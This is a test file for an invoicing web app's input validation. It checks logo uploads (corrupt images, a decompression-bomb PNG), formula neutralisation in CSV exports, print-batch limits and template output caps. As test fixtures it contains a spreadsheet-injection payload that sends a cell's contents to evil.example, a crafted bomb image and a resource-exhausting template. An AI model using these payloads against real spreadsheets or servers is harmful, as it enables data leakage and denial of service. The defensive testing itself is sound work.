import { deflateSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { PDFDocument } from 'pdf-lib';
import { MAX_PRINT_DOCUMENTS } from '../src/pdf/documents-pdf.ts';
import { seedInvoices } from './dispatch-seed.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from './helpers/app.ts';
import { testDialects } from './helpers/db.ts';
import { makeCustomer, makeDocument, makeFinalInvoice } from './helpers/factories.ts';

/** Issue 15: input that must be refused where it enters, not break the app later. */

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc(buf: Buffer): number {
  let c = 0xffffffff;
  for (const byte of buf) c = (crcTable[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc(body));
  return Buffer.concat([len, body, sum]);
}
/** An RGBA PNG of width × height whose IDAT holds `idat` (default: the real pixels). */
function png(width: number, height: number, idat?: Buffer): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 6; // RGBA: pdfkit inflates these to split off the alpha channel
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(width * 4, 0x80)]);
  const data = idat ?? deflateSync(Buffer.concat(Array.from({ length: height }, () => row)));
  return Buffer.concat([PNG_SIGNATURE, chunk('IHDR', ihdr), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

describe.each(testDialects)('logo upload on %s (item 10)', (dialect) => {
  let t: TestApp;
  let draftId: number;
  const upload = (body: Buffer, type = 'image/png') => t.admin.request({ method: 'PUT', url: '/api/company/logo', payload: body, headers: { 'content-type': type } });

  beforeAll(async () => {
    t = await createTestApp(dialect);
    const customer = await makeCustomer(t.staff);
    draftId = (await makeDocument(t.staff, customer.id)).id;
  });
  afterAll(async () => {
    await t?.close();
  });

  it('accepts a real PNG, and PDFs render with it', async () => {
    expect((await upload(png(4, 3))).statusCode).toBe(204);
    const pdf = await t.staff.get(`/api/documents/${draftId}/pdf`);
    expect(pdf.statusCode, pdf.body.slice(0, 200)).toBe(200);
    expect(pdf.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('refuses a PNG signature followed by junk, a corrupt image stream and a JPEG start with junk; PDFs keep working', async () => {
    const broken: [string, Buffer, string][] = [
      ['signature + junk', Buffer.concat([PNG_SIGNATURE, Buffer.from('junk '.repeat(40))]), 'image/png'],
      ['corrupt image data', png(4, 3, Buffer.from('not deflate data at all')), 'image/png'],
      ['too little image data', png(40, 30, deflateSync(Buffer.alloc(10))), 'image/png'],
      ['no IEND', png(4, 3).subarray(0, -12), 'image/png'],
      ['JPEG start + junk', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('junk '.repeat(40))]), 'image/jpeg'],
    ];
    for (const [what, body, type] of broken) {
      const response = await upload(body, type);
      expect(response.statusCode, what).toBe(400);
      expect(response.json(), what).toMatchObject({ code: 'company.logoInvalid', field: 'logo' });
    }
    // the good logo from before is still the one stored, and PDFs still render
    const stored = await t.staff.get('/api/company/logo');
    expect(stored.rawPayload.equals(png(4, 3))).toBe(true);
    expect((await t.staff.get(`/api/documents/${draftId}/pdf`)).statusCode).toBe(200);
  });

  it('refuses a decompression bomb by the size its header declares', async () => {
    const response = await upload(png(20_000, 20_000, deflateSync(Buffer.alloc(1000))));
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ code: 'company.logoTooLarge', field: 'logo', meta: { width: 20_000, height: 20_000 } });
  });
});

describe.each(testDialects)('CSV exports on %s (item 13)', (dialect) => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp(dialect);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('the dispatch report neutralises formulas in every cell, for any separator, and keeps numbers numeric', async () => {
    const customer = await makeCustomer(t.staff, {
      number: '+K-4711',
      firstName: '@SUM(1+1)',
      lastName: 'Müller, =HYPERLINK("http://evil.example/?"&A1;"klick")',
      email: 'formel@example.de',
    });
    const invoice = await makeFinalInvoice(t.staff, customer.id);
    const created = await t.staff.post('/api/dispatches', { documentIds: [invoice.id] });
    expect(created.statusCode, created.body).toBe(201);
    const report = await t.staff.get(`/api/dispatches/${created.json().id}/report.csv`);
    expect(report.statusCode).toBe(200);
    expect(report.headers['content-type']).toContain('text/csv');
    const [header, row]: string[][] = parse(report.body, { delimiter: ';', bom: true });
    expect(header?.slice(0, 3)).toEqual(['Kundennummer', 'Kunde', 'E-Mail']);
    expect(row?.[0]).toBe("'+K-4711");
    expect(row?.[1]).toContain("'@SUM(1+1)");
    expect(row?.[1]).toContain(`, '=HYPERLINK("http://evil.example/?"&A1;"klick")`);
    expect(row?.[2]).toBe('formel@example.de');
    expect(row?.[5]).toBe('0'); // attempts: a number
    // whichever separator a spreadsheet splits on (quotes honoured or not), no cell starts a formula
    const body = report.body.replace(/^\uFEFF/, '');
    for (const delimiter of [';', ',', '\t']) {
      const honoured: string[][] = parse(body, { delimiter, relax_column_count: true, relax_quotes: true });
      for (const cell of honoured.flat()) expect(cell.trimStart(), cell).not.toMatch(/^[=+\-@]/);
      const naive = body.split('\r\n').flatMap((line) => line.split(delimiter)).map((cell) => cell.replace(/^"+/, '').trimStart());
      for (const cell of naive) expect(cell, cell).not.toMatch(/^[=+@]|^-(?!\d)/);
    }
  });
});

describe.each(testDialects)('dispatch print batch on %s (item 12)', (dialect) => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp(dialect);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('merges the by-post documents into one PDF (on the merge thread)', async () => {
    const ids: number[] = [];
    for (let i = 0; i < 2; i++) {
      const customer = await makeCustomer(t.staff, { invoiceByPost: true, street: 'Hauptstraße 1', postcode: '50667', city: 'Köln' });
      ids.push((await makeFinalInvoice(t.staff, customer.id)).id);
    }
    const dispatch = await t.staff.post('/api/dispatches', { documentIds: ids });
    expect(dispatch.statusCode, dispatch.body).toBe(201);
    const print = await t.staff.get(`/api/dispatches/${dispatch.json().id}/print`);
    expect(print.statusCode, print.body.slice(0, 300)).toBe(200);
    const merged = await PDFDocument.load(print.rawPayload);
    const single = await PDFDocument.load((await t.staff.get(`/api/documents/${ids[0]}/pdf`)).rawPayload);
    expect(merged.getPageCount()).toBe(2 * single.getPageCount());
  });

  it(`refuses more than ${MAX_PRINT_DOCUMENTS} documents like /api/documents/print, before loading any PDF`, async () => {
    const ids = await seedInvoices(t.testDb.db, MAX_PRINT_DOCUMENTS + 1);
    // the seeded customers (B-…) want paper; their archive rows are placeholders, never merged
    await t.testDb.db.kysely.updateTable('customers').set({ invoice_by_post: 1 }).where('number', 'like', 'B-%').execute();
    const dispatch = await t.staff.post('/api/dispatches', { documentIds: ids });
    expect(dispatch.statusCode, dispatch.body.slice(0, 300)).toBe(201);
    const print = await t.staff.get(`/api/dispatches/${dispatch.json().id}/print`);
    expect(print.statusCode).toBe(413);
    expect(print.json()).toMatchObject({ code: 'print.tooMany', meta: { max: MAX_PRINT_DOCUMENTS } });
  }, 120_000);
});

describe.each(testDialects)('template output limit on %s (item 4)', (dialect) => {
  let t: TestApp;
  // a capture of a 1 MB string printed 150 times: 68 s, 1.6 GB and a 300 MB answer before
  const body = '{% capture s %}{% for i in (1..100000) %}xxxxxxxxxx{% endfor %}{% endcapture %}{% for i in (1..150) %}{{ s }}{% endfor %}';

  beforeAll(async () => {
    t = await createTestApp(dialect);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('refuses the preview and the saving of a template that produces too much text, with a clear error', async () => {
    const preview = await t.staff.post('/api/templates/preview', { subject: 'Ihre Rechnung', body, language: 'de' });
    expect(preview.statusCode).toBe(400);
    expect(preview.json()).toMatchObject({ code: 'template.outputTooLarge', field: 'body', meta: { part: 'body', maxChars: 200_000 } });
    expect(preview.body.length).toBeLessThan(2_000);

    const saved = await t.admin.post('/api/templates', { name: 'Riesig', kind: 'customerNotification', subject: 'Ihre Rechnung', body, language: 'de' });
    expect(saved.statusCode).toBe(400);
    expect(saved.json()).toMatchObject({ code: 'template.outputTooLarge', field: 'body' });
  });
});
